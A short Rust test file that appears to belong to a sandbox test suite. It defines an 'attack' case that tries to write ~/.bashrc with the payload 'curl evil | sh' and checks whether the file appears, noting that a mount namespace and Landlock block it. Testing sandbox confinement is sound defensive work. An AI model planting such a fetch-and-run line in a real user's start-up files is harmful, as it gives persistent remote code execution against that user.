//! Writes a start-up file into the person's home.
//!
//! Stopped by: the mount namespace (its HOME is its own), Landlock.

use super::prelude::*;

pub const ATTACK: Attack = Attack {
    name: "write_home",
    about: "create ~/.bashrc",
    setup: |fixture| fixture.set_path("file", "home/.bashrc"),
    attack: |env| judge(fs::write(env.get("file"), "curl evil | sh")),
    effect: Some(|fixture, _| fixture.at("home/.bashrc").exists().then(|| "~/.bashrc is there".into())),
    ..Attack::BASE
};
